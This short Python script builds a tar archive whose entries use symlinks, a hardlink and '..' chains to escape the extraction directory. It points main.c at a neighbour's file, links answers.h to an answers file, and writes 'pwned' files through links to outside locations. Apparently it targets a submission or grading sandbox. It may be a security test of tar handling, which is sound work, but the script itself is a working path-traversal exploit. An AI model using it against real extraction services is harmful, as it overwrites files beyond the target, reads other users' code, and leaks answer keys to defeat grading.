import io, json, sys, tarfile

places = json.loads(sys.argv[1])


def add(name, kind=tarfile.REGTYPE, target="", text=b"owned\n"):
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname = kind, target
    entry.size = len(text) if kind == tarfile.REGTYPE else 0
    archive.addfile(entry, io.BytesIO(text))


with tarfile.open("vault.tar", "w") as archive:
    add("main.c", tarfile.SYMTYPE, places["NEIGHBOUR"] + "/main.c")
    add("answers.h", tarfile.LNKTYPE, places["ANSWERS"])
    add("out", tarfile.SYMTYPE, places["WORLD"])
    add("out/pwned")
    add("up", tarfile.SYMTYPE, "..")
    add("up/up/pwned")
    add("b.c", text=b'#include "answers.h"\n')
